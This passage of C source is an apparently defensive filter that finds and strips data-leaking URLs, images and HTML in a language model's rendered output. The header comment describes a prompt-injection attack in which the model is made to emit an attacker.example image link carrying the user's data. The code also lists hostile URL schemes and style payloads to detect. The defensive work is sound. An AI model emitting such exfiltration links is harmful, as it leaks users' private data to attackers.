/*
 * exfil.c -- URLs in a model's output that leak data when the text is
 * rendered.
 *
 * The attack: an injected instruction makes the model write
 * ![loading](https://attacker.example/c?d=<the user's data>), and the
 * chat client that renders the answer fetches the image, sending the data
 * with zero clicks. Links do the same with one click; link previews
 * ("unfurling") in chat tools fetch bare URLs with none. The model's text
 * is harmless as text; what matters is what a renderer does with it, so
 * this file reads output the way renderers do: CommonMark images and
 * links (inline, and reference definitions `[1]: https://...`), the HTML
 * elements that load or navigate (<img>, <iframe>, <a>, ...), and bare
 * URLs, with URLs canonicalized as browsers do (HTML entities decoded,
 * tabs, newlines and invisible characters dropped) before the scheme and
 * host are judged.
 *
 * What is reported (ag_exfil_item.kinds):
 * - images and loading elements whose host is not on the allow-list:
 *   clients fetch them unasked, so any such host is a leak channel;
 * - links and bare URLs to such hosts that carry data: a query string,
 *   credentials, a long, percent-encoded or base64/hex-looking path
 *   segment (a link to a plain documentation page passes);
 * - javascript:, vbscript: and data: URLs (raster images excepted) in
 *   links, images and elements, whatever the host;
 * - URLs with invisible or look-alike characters, or entity-encoded
 *   characters before the query: no legitimate URL needs them.
 * Relative URLs load from the client's own origin and pass.
 *
 * Reference-style images (`![x][1]` ... `[1]: url`) are neutralized at
 * the definition: every definition pointing at a host not allowed is
 * removed, which leaves the image (or link) unresolved, rendered as plain
 * text. That works in a stream too, where the image has long been
 * released when its definition arrives.
 *
 * Limits, honestly: this is a small parser for the constructs renderers
 * act on, not a full CommonMark or HTML parser; a construct longer than
 * AG_EXFIL_MAX_CONSTRUCT bytes is not parsed as one (its URL is still
 * seen as a bare URL). CSS url(), SVG and <meta refresh> are not read.
 */
#include <string.h>

#include "exfil.h"
#include "normalize.h"

#define NEED_MORE ((size_t)-1) /* the end of the text left it unfinished */
#define NONE ((size_t)-2)      /* not a construct */
#define MAX_DEPTH 8            /* links inside images inside links ... */
#define MAX_BRACKETS 32
#define MAX_LINK_TEXT 4096
#define MAX_TAG 4096
#define CANON_MAX 2048 /* URL bytes judged; a longer URL carries data */

typedef struct {
  const char *t;
  size_t len;
  int final;
  const ag_exfil_allow *allow;
  ag_exfil_cb cb;
  void *ud;
  int sanitize_hold;     /* hold script elements to their end tag */
  size_t hold, *unsplit; /* ag_exfil_unsplit */
} ctx;

/* "Ran into lim": unfinished when lim is the end of a text still growing. */
static size_t out_of_text(const ctx *c, size_t lim) {
  return lim == c->len && !c->final ? NEED_MORE : NONE;
}

static int lower(int ch) {
  return ch >= 'A' && ch <= 'Z' ? ch + 32 : ch;
}

static int alnum(int ch) {
  return (ch >= 'a' && ch <= 'z') || (ch >= 'A' && ch <= 'Z') ||
         (ch >= '0' && ch <= '9');
}

static int hexval(int ch) {
  ch = lower(ch);
  if (ch >= '0' && ch <= '9')
    return ch - '0';
  if (ch >= 'a' && ch <= 'f')
    return ch - 'a' + 10;
  return -1;
}

static int space(int ch) {
  return ch == ' ' || ch == '\t' || ch == '\n' || ch == '\r' || ch == '\f';
}

/* ---------------------------------------------------------------- hosts */

static int host_match(const char *host, size_t len, const char *pat) {
  size_t pl = strlen(pat);
  if (pl > 2 && pat[0] == '*' && pat[1] == '.') {
    size_t sl = pl - 1; /* ".example.com" */
    if (len <= sl)
      return 0;
    for (size_t i = 0; i < sl; i++)
      if (lower((unsigned char)host[len - sl + i]) !=
          lower((unsigned char)pat[1 + i]))
        return 0;
    return 1;
  }
  if (pl != len)
    return 0;
  for (size_t i = 0; i < len; i++)
    if (lower((unsigned char)host[i]) != lower((unsigned char)pat[i]))
      return 0;
  return 1;
}

int ag_exfil_host_allowed(const ag_exfil_allow *a, const char *host,
                          size_t len) {
  if (!a || !len)
    return 0;
  for (size_t i = 0; i < a->n_hosts; i++)
    if (a->hosts[i] && host_match(host, len, a->hosts[i]))
      return 1;
  for (size_t i = 0; i < a->n_extra; i++)
    if (a->extra[i] && host_match(host, len, a->extra[i]))
      return 1;
  return 0;
}

/* ----------------------------------------------------------------- URLs */

typedef struct {
  int network;    /* loads from a host */
  int allowed;    /* that host is on the list (relative URLs: 1) */
  int data;       /* the URL carries data */
  int bad_scheme; /* javascript:, vbscript:, data: (not a raster image) */
  int obfuscated; /* invisible, encoded or look-alike characters */
} url_info;

/* Characters no URL needs: zero-width, bidi controls, word joiners,
 * soft hyphen, BOM, Mongolian vowel separator, tag characters. */
static int invisible(int cp) {
  return (cp >= 0x200B && cp <= 0x200F) || (cp >= 0x202A && cp <= 0x202E) ||
         (cp >= 0x2060 && cp <= 0x2064) || cp == 0xFEFF || cp == 0xAD ||
         cp == 0x180E || cp == 0x34F || (cp >= 0xE0000 && cp <= 0xE007F);
}

/* An HTML character reference at u[i] ("&#106;", "&#x6A;", "&colon;"):
 * its code point (-1 for one that decodes to nothing), *used its length.
 * 0 with *used 0 when there is none. */
static int entity(const char *u, size_t n, size_t i, size_t *used) {
  static const struct {
    const char *name;
    int cp;
  } named[] = {{"colon", ':'},  {"sol", '/'},    {"period", '.'},
               {"amp", '&'},    {"quest", '?'},  {"equals", '='},
               {"num", '#'},    {"lpar", '('},   {"rpar", ')'},
               {"Tab", -1},     {"NewLine", -1}, {"commat", '@'},
               {"percnt", '%'}, {"bsol", '\\'},  {"lowbar", '_'},
               {"dollar", '$'}, {"semi", ';'},   {"comma", ','}};
  *used = 0;
  if (i + 2 >= n || u[i] != '&')
    return 0;
  size_t k = i + 1;
  if (u[k] == '#') {
    int hex = k + 1 < n && lower((unsigned char)u[k + 1]) == 'x';
    k += hex ? 2 : 1;
    long cp = 0;
    size_t digits = 0;
    while (k < n && digits < 8) {
      int v = hex ? hexval((unsigned char)u[k])
                  : (u[k] >= '0' && u[k] <= '9' ? u[k] - '0' : -1);
      if (v < 0)
        break;
      cp = cp * (hex ? 16 : 10) + v;
      k++;
      digits++;
    }
    if (!digits || cp > 0x10FFFF)
      return 0;
    if (k < n && u[k] == ';')
      k++;
    *used = k - i;
    return cp == 9 || cp == 10 || cp == 13 ? -1 : (int)cp;
  }
  for (size_t j = 0; j < sizeof(named) / sizeof(named[0]); j++) {
    size_t l = strlen(named[j].name);
    if (k + l < n && !memcmp(u + k, named[j].name, l) && u[k + l] == ';') {
      *used = l + 2;
      return named[j].cp;
    }
  }
  return 0;
}

/* Append a code point to the canonical URL as UTF-8. */
static size_t put_cp(char *b, size_t n, int cp) {
  unsigned char tmp[4];
  size_t l;
  if (cp < 0x80) {
    tmp[0] = (unsigned char)cp;
    l = 1;
  } else if (cp < 0x800) {
    tmp[0] = (unsigned char)(0xC0 | (cp >> 6));
    tmp[1] = (unsigned char)(0x80 | (cp & 0x3F));
    l = 2;
  } else if (cp < 0x10000) {
    tmp[0] = (unsigned char)(0xE0 | (cp >> 12));
    tmp[1] = (unsigned char)(0x80 | ((cp >> 6) & 0x3F));
    tmp[2] = (unsigned char)(0x80 | (cp & 0x3F));
    l = 3;
  } else {
    tmp[0] = (unsigned char)(0xF0 | (cp >> 18));
    tmp[1] = (unsigned char)(0x80 | ((cp >> 12) & 0x3F));
    tmp[2] = (unsigned char)(0x80 | ((cp >> 6) & 0x3F));
    tmp[3] = (unsigned char)(0x80 | (cp & 0x3F));
    l = 4;
  }
  if (n + l > CANON_MAX)
    return n;
  memcpy(b + n, tmp, l);
  return n + l;
}

/*
 * The URL as a browser reads it: character references decoded, ASCII
 * controls (tab, newline) and invisible characters dropped. Sets
 * ui->obfuscated when anything but "&amp;" had to be undone before the
 * query. Returns the canonical length (at most CANON_MAX; *truncated when
 * more was dropped).
 */
static size_t canonical(const char *u, size_t n, int md, char *b, url_info *ui,
                        int *truncated) {
  size_t o = 0, i = 0;
  int in_query = 0;
  *truncated = 0;
  while (i < n) {
    if (o >= CANON_MAX - 4) {
      *truncated = 1;
      break;
    }
    unsigned char ch = (unsigned char)u[i];
    /* Markdown unescapes "\@" before a browser sees the URL. */
    if (md && ch == '\\' && i + 1 < n && u[i + 1] > 0x20 && u[i + 1] < 0x7F &&
        !alnum((unsigned char)u[i + 1])) {
      i++;
      continue;
    }
    size_t used = 0;
    int cp = ch == '&' ? entity(u, n, i, &used) : 0;
    if (used) {
      if (cp != '&' && !in_query)
        ui->obfuscated = 1;
      if (cp > 0)
        o = put_cp(b, o, cp);
      if (cp == '?')
        in_query = 1;
      i += used;
      continue;
    }
    if (ch < 0x20 || ch == 0x7F) {
      ui->obfuscated = 1;
      i++;
      continue;
    }
    if (ch >= 0x80) {
      size_t l = ag_utf8_decode((const unsigned char *)u + i, n - i, &cp);
      if (!l) {
        ui->obfuscated = 1;
        i++;
        continue;
      }
      if (invisible(cp))
        ui->obfuscated = 1;
      else
        o = put_cp(b, o, cp);
      i += l;
      continue;
    }
    if (ch == '?')
      in_query = 1;
    b[o++] = (char)ch;
    i++;
  }
  return o;
}

static int prefix_ci(const char *s, size_t n, const char *p) {
  size_t l = strlen(p);
  if (n < l)
    return 0;
  for (size_t i = 0; i < l; i++)
    if (lower((unsigned char)s[i]) != p[i])
      return 0;
  return 1;
}

/* Does a path segment look like data rather than a name? */
static int data_segment(const char *s, size_t n) {
  if (n > 40)
    return 1;
  size_t pct = 0, b64 = 0, hex = 0;
  int digit = 0, up = 0, low = 0;
  for (size_t i = 0; i < n; i++) {
    int ch = (unsigned char)s[i];
    pct += ch == '%';
    digit |= ch >= '0' && ch <= '9';
    up |= ch >= 'A' && ch <= 'Z';
    low |= ch >= 'a' && ch <= 'z';
    b64 += alnum(ch) || ch == '+' || ch == '=' || ch == '_' || ch == '-';
    hex += hexval(ch) >= 0;
  }
  return pct >= 3 || (n >= 16 && b64 == n && digit && up && low) ||
         (n >= 32 && hex == n);
}

/* Judge the URL u[0, n). `web`: a bare "www." URL, read as http; `md`:
 * a markdown destination, whose backslash escapes go first. */
static void judge_url(const ctx *c, const char *u, size_t n, int web, int md,
                      url_info *ui) {
  char b[CANON_MAX];
  int truncated;
  memset(ui, 0, sizeof(*ui));
  while (n && space((unsigned char)*u)) {
    u++;
    n--;
  }
  n = canonical(u, n, md, b, ui, &truncated);
  size_t i = 0;
  while (i < n && (alnum((unsigned char)b[i]) || b[i] == '+' || b[i] == '-' ||
                   b[i] == '.'))
    i++;
  int has_scheme =
      i > 0 && i < n && b[i] == ':' && !web && !(b[0] >= '0' && b[0] <= '9');
  size_t p = 0;
  if (has_scheme) {
    if (prefix_ci(b, n, "javascript:") || prefix_ci(b, n, "vbscript:") ||
        prefix_ci(b, n, "livescript:")) {
      ui->bad_scheme = 1;
      return;
    }
    if (prefix_ci(b, n, "data:")) {
      static const char *const raster[] = {
          "data:image/png", "data:image/gif",  "data:image/jpeg",
          "data:image/jpg", "data:image/webp", "data:image/avif"};
      int ok = 0;
      for (size_t k = 0; k < sizeof(raster) / sizeof(*raster); k++)
        if (prefix_ci(b, n, raster[k]) &&
            (n == strlen(raster[k]) || b[strlen(raster[k])] == ';' ||
             b[strlen(raster[k])] == ','))
          ok = 1;
      ui->bad_scheme = !ok;
      ui->allowed = ok;
      return;
    }
    if (!prefix_ci(b, n, "http:") && !prefix_ci(b, n, "https:") &&
        !prefix_ci(b, n, "ftp:") && !prefix_ci(b, n, "ws:") &&
        !prefix_ci(b, n, "wss:")) {
      ui->allowed = 1; /* mailto:, tel: ... do not load anything */
      return;
    }
    p = i + 1;
    /* Browsers take any run of slashes and backslashes, or none. */
    while (p < n && (b[p] == '/' || b[p] == '\\'))
      p++;
  } else if (web) {
    p = 0;
  } else if (n >= 2 && (b[0] == '/' || b[0] == '\\') &&
             (b[1] == '/' || b[1] == '\\')) {
    p = 2; /* protocol-relative */
  } else {
    ui->allowed = 1; /* relative: the client's own origin */
    return;
  }
  ui->network = 1;
  size_t a = p;
  while (p < n && b[p] != '/' && b[p] != '\\' && b[p] != '?' && b[p] != '#')
    p++;
  size_t h = a, he = p;
  for (size_t k = a; k < p; k++)
    if (b[k] == '@')
      h = k + 1;
  if (h > a)
    ui->data = 1; /* credentials in the URL */
  if (h < he && b[h] == '[') {
    size_t k = h;
    while (k < he && b[k] != ']')
      k++;
    he = k < he ? k + 1 : he;
  } else {
    for (size_t k = h; k < he; k++)
      if (b[k] == ':') {
        he = k;
        break;
      }
  }
  while (he > h && b[he - 1] == '.')
    he--;
  int ascii = 0, other = 0;
  for (size_t k = h; k < he; k++) {
    unsigned char ch = (unsigned char)b[k];
    if (ch >= 0x80)
      other = 1;
    else if (alnum(ch))
      ascii = 1;
    b[k] = (char)lower(ch);
  }
  if (other && ascii)
    ui->obfuscated = 1; /* look-alike letters among Latin ones */
  ui->allowed = ag_exfil_host_allowed(c->allow, b + h, he - h);
  /* Path segments, then the query. */
  size_t s = p;
  while (p < n && b[p] != '?' && b[p] != '#') {
    if (b[p] == '/' || b[p] == '\\') {
      if (data_segment(b + s, p - s))
        ui->data = 1;
      s = p + 1;
    }
    p++;
  }
  if (data_segment(b + s, p - s))
    ui->data = 1;
  if (p < n && b[p] == '?' && p + 1 < n && b[p + 1] != '#')
    ui->data = 1;
  if (truncated)
    ui->data = 1;
}

static void report(const ctx *c, unsigned kinds, size_t start, size_t end,
                   int keep, size_t ks, size_t ke) {
  /* ag_exfil_unsplit: the earliest construct that the hold point cuts. */
  if (c->unsplit && start < c->hold && c->hold < end && start < *c->unsplit)
    *c->unsplit = start;
  if (!kinds || !c->cb)
    return;
  ag_exfil_item it = {kinds, start, end, keep, ks, ke, 0, 0, 0, 0};
  c->cb(c->ud, &it);
}

/* Kinds for a URL that is loaded (images, embedded elements) or
 * followed (links). */
static unsigned load_kinds(const url_info *ui, unsigned kind) {
  unsigned k = ui->obfuscated ? AG_EXFIL_OBFUSCATED : 0;
  if (ui->bad_scheme)
    return k | AG_EXFIL_SCHEME;
  if (ui->network && !ui->allowed)
    k |= kind;
  return k;
}

static unsigned follow_kinds(const url_info *ui, unsigned kind) {
  unsigned k = ui->obfuscated ? AG_EXFIL_OBFUSCATED : 0;
  if (ui->bad_scheme)
    return k | AG_EXFIL_SCHEME;
  if (ui->network && !ui->allowed && ui->data)
    k |= kind;
  return k;
}

/* ------------------------------------------------------------- markdown */

static size_t scan_range(const ctx *c, size_t from, size_t to, int depth);

/* The ']' closing the '[' at p (nested brackets balanced, backslash
 * escapes skipped), before lim. A blank line ends link text. */
static size_t close_bracket(const ctx *c, size_t p, size_t lim) {
  const char *t = c->t;
  int depth = 0;
  for (size_t i = p; i < lim; i++) {
    if (i - p > MAX_LINK_TEXT)
      return NONE;
    if (t[i] == '\\') {
      i++;
      continue;
    }
    if (t[i] == '[' && ++depth > MAX_BRACKETS)
      return NONE;
    if (t[i] == ']' && --depth == 0)
      return i;
    if (t[i] == '\n') {
      size_t k = i + 1;
      while (k < lim && (t[k] == ' ' || t[k] == '\t'))
        k++;
      if (k < lim && (t[k] == '\n' || t[k] == '\r'))
        return NONE;
    }
  }
  return out_of_text(c, lim);
}

/* Spaces and tabs, and at most one line break. */
static size_t skip_ws(const char *t, size_t i, size_t lim) {
  int nl = 0;
  while (i < lim && (t[i] == ' ' || t[i] == '\t' || t[i] == '\r' ||
                     (t[i] == '\n' && !nl++)))
    i++;
  return i;
}

/* A link destination and optional title after the '(' at q, up to the
 * ')': the URL in [*us, *ue); returns the index after ')'. */
static size_t destination(const ctx *c, size_t q, size_t lim, size_t *us,
                          size_t *ue) {
  const char *t = c->t;
  size_t i = skip_ws(t, q + 1, lim);
  if (i >= lim)
    return out_of_text(c, lim);
  if (t[i] == '<') {
    size_t k = i + 1;
    while (k < lim && t[k] != '>' && t[k] != '\n' && t[k] != '<')
      k++;
    if (k >= lim)
      return out_of_text(c, lim);
    if (t[k] != '>')
      return NONE;
    *us = i + 1;
    *ue = k;
    i = k + 1;
  } else {
    int depth = 0;
    *us = i;
    while (i < lim) {
      unsigned char ch = (unsigned char)t[i];
      if (ch == '\\' && i + 1 < lim) {
        i += 2;
        continue;
      }
      if (ch == ' ' || ch == '\n' || ch == '\r' || (ch < 0x20 && ch != '\t'))
        break;
      if (ch == '(' && ++depth > MAX_BRACKETS)
        return NONE;
      if (ch == ')' && depth-- == 0)
        break;
      if (i - q > AG_EXFIL_MAX_CONSTRUCT)
        return NONE;
      i++;
    }
    if (i >= lim)
      return out_of_text(c, lim);
    *ue = i;
  }
  i = skip_ws(t, i, lim);
  if (i >= lim)
    return out_of_text(c, lim);
  if (t[i] == '"' || t[i] == '\'' || t[i] == '(') {
    char close = t[i] == '(' ? ')' : t[i];
    size_t k = i + 1;
    while (k < lim && t[k] != close) {
      if (t[k] == '\\')
        k++;
      if (k - q > AG_EXFIL_MAX_CONSTRUCT)
        return NONE;
      k++;
    }
    if (k >= lim)
      return out_of_text(c, lim);
    i = skip_ws(t, k + 1, lim);
    if (i >= lim)
      return out_of_text(c, lim);
  }
  return t[i] == ')' ? i + 1 : NONE;
}

/* An inline image (image: the '!' at p, '[' at p + 1) or link at p. */
static size_t inline_md(const ctx *c, size_t p, size_t lim, int image,
                        int depth) {
  size_t b = p + (image ? 1 : 0);
  size_t close = close_bracket(c, b, lim);
  if (close == NONE || close == NEED_MORE)
    return close;
  if (close + 1 >= lim)
    return out_of_text(c, lim);
  if (c->t[close + 1] != '(')
    return NONE; /* a reference or plain brackets: the caller reads on */
  size_t us = 0, ue = 0;
  size_t end = destination(c, close + 1, lim, &us, &ue);
  if (end == NONE || end == NEED_MORE)
    return end;
  url_info ui;
  judge_url(c, c->t + us, ue - us, 0, 1, &ui);
  unsigned k = image ? load_kinds(&ui, AG_EXFIL_IMAGE)
                     : follow_kinds(&ui, AG_EXFIL_LINK);
  report(c, k, p, end, 1, b + 1, close);
  /* An image inside a link's text, or a link in alt text: each is
   * judged on its own. */
  if (depth < MAX_DEPTH)
    scan_range(c, b + 1, close, depth + 1);
  return end;
}

/* A reference definition "[label]: url 'title'" on the line starting at
 * ls (the '[' at p, after up to three spaces). Its span runs from the '['
 * to the line break. */
static size_t definition(const ctx *c, size_t ls, size_t p, size_t lim) {
  const char *t = c->t;
  size_t close = close_bracket(c, p, lim);
  if (close == NONE || close == NEED_MORE)
    return close;
  if (close + 1 >= lim)
    return out_of_text(c, lim);
  if (t[close + 1] != ':')
    return NONE;
  size_t i = skip_ws(t, close + 2, lim), us, ue;
  if (i >= lim)
    return out_of_text(c, lim);
  if (t[i] == '<') {
    us = ++i;
    while (i < lim && t[i] != '>' && t[i] != '\n')
      i++;
    if (i >= lim)
      return out_of_text(c, lim);
    ue = i;
  } else {
    us = i;
    while (i < lim && !space((unsigned char)t[i]))
      i++;
    if (i >= lim && out_of_text(c, lim) == NEED_MORE)
      return NEED_MORE;
    ue = i;
  }
  if (ue == us)
    return NONE;
  while (i < lim && t[i] != '\n') {
    if (i - ls > AG_EXFIL_MAX_CONSTRUCT)
      return NONE;
    i++;
  }
  if (i >= lim && out_of_text(c, lim) == NEED_MORE)
    return NEED_MORE;
  url_info ui;
  judge_url(c, t + us, ue - us, 0, 1, &ui);
  /* The span starts at the '[': the indent stays (it may have been
   * released already in a stream). */
  report(c, load_kinds(&ui, AG_EXFIL_REFERENCE), p, i, 1, i, i);
  return i;
}

/* ----------------------------------------------------------------- HTML */

typedef enum { TAG_NONE, TAG_EMBED, TAG_LINK } tag_class;

static tag_class tag_kind(const char *name, size_t n) {
  static const char *const embed[] = {
      "img",   "image",  "iframe", "frame",  "embed",   "object", "video",
      "audio", "source", "track",  "script", "link",    "input",  "body",
      "table", "td",     "svg",    "use",    "picture", "portal", "meta"};
  static const char *const link[] = {"a", "area", "form", "base", "button"};
  for (size_t i = 0; i < sizeof(embed) / sizeof(*embed); i++)
    if (strlen(embed[i]) == n && prefix_ci(name, n, embed[i]))
      return TAG_EMBED;
  for (size_t i = 0; i < sizeof(link) / sizeof(*link); i++)
    if (strlen(link[i]) == n && prefix_ci(name, n, link[i]))
      return TAG_LINK;
  return TAG_NONE;
}

static int url_attr(const char *name, size_t n) {
  static const char *const attrs[] = {
      "src",        "href",       "data",   "poster",  "action",
      "formaction", "background", "lowsrc", "dynsrc",  "xlink:href",
      "srcset",     "content",    "ping",   "longdesc"};
  for (size_t i = 0; i < sizeof(attrs) / sizeof(*attrs); i++)
    if (strlen(attrs[i]) == n && prefix_ci(name, n, attrs[i]))
      return 1;
  return 0;
}

/* Elements whose tags are read for sanitization only (event handlers,
 * style expressions), when the policy sanitizes HTML. */
static int known_element(const char *name, size_t n) {
  static const char *const names[] = {
      "abbr",     "address",    "article",    "aside",    "b",       "bdi",
      "bdo",      "blockquote", "br",         "canvas",   "caption", "center",
      "cite",     "code",       "col",        "colgroup", "dd",      "del",
      "details",  "dfn",        "dialog",     "div",      "dl",      "dt",
      "em",       "fieldset",   "figcaption", "figure",   "font",    "footer",
      "h1",       "h2",         "h3",         "h4",       "h5",      "h6",
      "head",     "header",     "hr",         "html",     "i",       "ins",
      "kbd",      "label",      "legend",     "li",       "main",    "map",
      "mark",     "marquee",    "math",       "menu",     "nav",     "noscript",
      "ol",       "optgroup",   "option",     "output",   "p",       "pre",
      "progress", "q",          "s",          "samp",     "section", "select",
      "small",    "span",       "strong",     "style",    "sub",     "summary",
      "sup",      "tbody",      "template",   "textarea", "tfoot",   "th",
      "thead",    "time",       "title",      "tr",       "u",       "ul",
      "var",      "wbr",        "details",    "frameset", "animate", "set"};
  for (size_t i = 0; i < sizeof(names) / sizeof(*names); i++)
    if (strlen(names[i]) == n && prefix_ci(name, n, names[i]))
      return 1;
  return 0;
}

/* Does a style attribute's value run code or load something? */
static int style_expression(const char *v, size_t n) {
  static const char *const bad[] = {"expression(", "javascript:",  "vbscript:",
                                    "behavior:",   "-moz-binding", "url(",
                                    "@import"};
  for (size_t i = 0; i < n; i++)
    for (size_t k = 0; k < sizeof(bad) / sizeof(*bad); k++)
      if (prefix_ci(v + i, n - i, bad[k]))
        return 1;
  return 0;
}

#define MAX_ATTR_ITEMS 16
#define MAX_PLAIN_TAG 512

typedef struct {
  unsigned kind;
  size_t start, end;
} attr_item;

/* The end of a <script> element's body from i: after its "</script>".
 * Only when the policy sanitizes: a log names the opening tag alone, so
 * that a stream need not hold the body to say the same as a whole text. */
static size_t script_end(const ctx *c, size_t i, size_t lim) {
  if (!c->sanitize_hold)
    return i;
  const char *t = c->t;
  for (; i + 8 <= lim; i++)
    if (t[i] == '<' && prefix_ci(t + i, lim - i, "</script")) {
      size_t k = i + 8;
      while (k < lim && t[k] != '>')
        k++;
      if (k < lim)
        return k + 1;
      break;
    }
  size_t r = out_of_text(c, lim);
  return r == NONE ? lim : r; /* unclosed: the script runs to the end */
}

/*
 * An opening tag at p ('<'). Embedding elements that load from a host
 * not allowed are removed (an image keeps its alt text); links that
 * carry data lose their opening tag (their text stays). For sanitization,
 * event handler attributes (on...=) and style attributes with
 * expressions are reported on their own, and a <script> element whole.
 */
static size_t html_tag(const ctx *c, size_t p, size_t lim) {
  const char *t = c->t;
  size_t i = p + 1, ns = i;
  while (i < lim && alnum((unsigned char)t[i]))
    i++;
  tag_class cls = tag_kind(t + ns, i - ns);
  int sanitize_only = cls == TAG_NONE;
  if (i >= lim) /* "<im" may become "<img": a short hold */
    return out_of_text(c, lim);
  if ((cls == TAG_NONE && !known_element(t + ns, i - ns)) ||
      !(space((unsigned char)t[i]) || t[i] == '/' || t[i] == '>'))
    return NONE;
  int script = i - ns == 6 && prefix_ci(t + ns, 6, "script");
  unsigned kinds = 0;
  size_t as = 0, ae = 0;
  attr_item attrs[MAX_ATTR_ITEMS];
  size_t n_attrs = 0;
  for (;;) {
    size_t before = i;
    while (i < lim && (space((unsigned char)t[i]) || t[i] == '/'))
      i++;
    if (i >= lim)
      return out_of_text(c, lim);
    /* An element read only for sanitizing must look like a tag: on one
     * line and short ("if a<b then ..." in prose is not held for long). */
    if (i - p > (sanitize_only ? MAX_PLAIN_TAG : MAX_TAG) ||
        (sanitize_only && memchr(t + before, '\n', i - before)))
      return NONE;
    if (t[i] == '>')
      break;
    if (t[i] == '<') /* "<img a<img a<img ...": not a tag, and reading on */
      return NONE;   /* from every '<' would cost MAX_TAG bytes each */
    size_t an = i;
    while (i < lim && !space((unsigned char)t[i]) && t[i] != '/' &&
           t[i] != '>' && t[i] != '=' && t[i] != '<')
      i++;
    size_t ane = i;
    while (i < lim && space((unsigned char)t[i]))
      i++;
    if (i >= lim)
      return out_of_text(c, lim);
    size_t vs = i, ve = i;
    if (t[i] == '=') {
      i++;
      while (i < lim && space((unsigned char)t[i]))
        i++;
      if (i >= lim)
        return out_of_text(c, lim);
      if (t[i] == '"' || t[i] == '\'') {
        char q = t[i];
        vs = ++i;
        while (i < lim && t[i] != q && i - p <= MAX_TAG)
          i++;
        if (i >= lim)
          return out_of_text(c, lim);
        if (t[i] != q)
          return NONE;
        ve = i++;
      } else {
        vs = i;
        while (i < lim && !space((unsigned char)t[i]) && t[i] != '>' &&
               t[i] != '<')
          i++;
        ve = i;
      }
    }
    if (ane == an) { /* a stray character: skip it */
      i++;
      continue;
    }
    size_t attr_end = i; /* after the value (and its quote) */
    if (ane - an > 2 && prefix_ci(t + an, ane - an, "on") &&
        n_attrs < MAX_ATTR_ITEMS)
      attrs[n_attrs++] = (attr_item){AG_EXFIL_HTML_HANDLER, before, attr_end};
    else if (ane - an == 5 && prefix_ci(t + an, 5, "style") &&
             style_expression(t + vs, ve - vs) && n_attrs < MAX_ATTR_ITEMS)
      attrs[n_attrs++] = (attr_item){AG_EXFIL_HTML_STYLE, before, attr_end};
    if (ane - an == 3 && prefix_ci(t + an, 3, "alt")) {
      as = vs;
      ae = ve;
    } else if (cls != TAG_NONE && url_attr(t + an, ane - an)) {
      /* srcset lists "url 2x, url 3x": judge each URL. */
      int srcset = ane - an == 6 && prefix_ci(t + an, 6, "srcset");
      size_t k = vs;
      while (k < ve) {
        while (k < ve && (space((unsigned char)t[k]) || t[k] == ','))
          k++;
        size_t us = k;
        while (k < ve &&
               !(srcset && (space((unsigned char)t[k]) || t[k] == ',')))
          k++;
        if (k > us) {
          url_info ui;
          judge_url(c, t + us, k - us, 0, 0, &ui);
          kinds |= cls == TAG_EMBED ? load_kinds(&ui, AG_EXFIL_HTML)
                                    : follow_kinds(&ui, AG_EXFIL_LINK);
        }
        while (srcset && k < ve && t[k] != ',')
          k++;
      }
    }
  }
  size_t end = i + 1;
  if (script) {
    size_t body_end = script_end(c, end, lim);
    if (body_end == NEED_MORE)
      return NEED_MORE;
    report(c, AG_EXFIL_HTML_SCRIPT, p, body_end, 1, body_end, body_end);
  }
  for (size_t k = 0; k < n_attrs; k++)
    report(c, attrs[k].kind, attrs[k].start, attrs[k].end, 1, attrs[k].end,
           attrs[k].end);
  if (ae <= as) /* no alt text: nothing kept */
    as = ae = end;
  report(c, kinds, p, end, 1, as, ae);
  return end;
}

/* ------------------------------------------------------------ bare URLs */

static const char *const bare_prefixes[] = {"https://", "http://", "ftp://",
                                            "www."};

/* A bare URL starting at p (after a non-alphanumeric character). */
static size_t bare_url(const ctx *c, size_t p, size_t lim) {
  const char *t = c->t;
  int web = 0;
  size_t k;
  for (k = 0; k < sizeof(bare_prefixes) / sizeof(*bare_prefixes); k++) {
    const char *pre = bare_prefixes[k];
    size_t l = strlen(pre), have = lim - p < l ? lim - p : l;
    size_t m = 0;
    while (m < have && lower((unsigned char)t[p + m]) == pre[m])
      m++;
    if (m == l) {
      web = pre[0] == 'w';
      break;
    }
    if (m == have && have < l)
      return out_of_text(c, lim); /* "http" at the end: may become one */
  }
  if (k == sizeof(bare_prefixes) / sizeof(*bare_prefixes))
    return NONE;
  size_t i = p;
  int paren = 0;
  while (i < lim) {
    unsigned char ch = (unsigned char)t[i];
    if (space(ch) || ch < 0x20 || ch == '<' || ch == '>' || ch == '"' ||
        ch == '\'' || ch == '`' || ch == '\\' || ch == ']')
      break;
    if (ch == '(')
      paren++;
    if (ch == ')' && paren-- == 0)
      break;
    if (i - p >= AG_EXFIL_MAX_CONSTRUCT)
      break;
    i++;
  }
  if (i >= lim && out_of_text(c, lim) == NEED_MORE)
    return NEED_MORE;
  while (i > p && strchr(".,;:!?*_~", t[i - 1]))
    i--;
  url_info ui;
  judge_url(c, t + p, i - p, web, 0, &ui);
  unsigned kinds = ui.obfuscated ? AG_EXFIL_OBFUSCATED : 0;
  if (ui.network && !ui.allowed && ui.data)
    kinds |= AG_EXFIL_BARE_URL;
  report(c, kinds, p, i, 0, 0, 0);
  return i > p ? i : p + 1;
}

/* --------------------------------------------------------------- the walk */

static int line_start(const char *t, size_t p, size_t *ls) {
  size_t k = p, spaces = 0;
  while (k > 0 && t[k - 1] == ' ' && spaces < 4) {
    k--;
    spaces++;
  }
  *ls = k;
  return spaces <= 3 && (k == 0 || t[k - 1] == '\n');
}

/* Constructs in [from, to); returns the hold point (to when none). */
/* ----------------------------------------------------------- code blocks */

/* A fence at p: three or more '`' or '~'. Its length, 0 when none. */
static size_t fence_len(const char *t, size_t p, size_t lim) {
  char f = t[p];
  size_t n = 0;
  if (f != '`' && f != '~')
    return 0;
  while (p + n < lim && t[p + n] == f)
    n++;
  return n >= 3 ? n : 0;
}

/*
 * A fenced code block whose opening fence starts at p (after at most
 * three spaces at a line start): up to its closing fence (the same
 * character, at least as long, alone on its line), or to the end of the
 * text, as CommonMark reads an unclosed one.
 */
static size_t code_block(const ctx *c, size_t p, size_t lim) {
  const char *t = c->t;
  size_t n = fence_len(t, p, lim);
  if (!n) { /* "``" at the end may still become a fence */
    size_t k = p;
    while (k < lim && t[k] == t[p])
      k++;
    return k == lim ? out_of_text(c, lim) : NONE;
  }
  if (p + n >= lim)
    return out_of_text(c, lim);
  size_t is = p + n, i = is;
  while (i < lim && t[i] != '\n')
    i++;
  if (i >= lim)
    return out_of_text(c, lim);
  if (t[p] == '`' && memchr(t + is, '`', i - is))
    return NONE; /* inline code, not a fence */
  size_t info_end = i, body = i + 1, end = lim, body_end = lim;
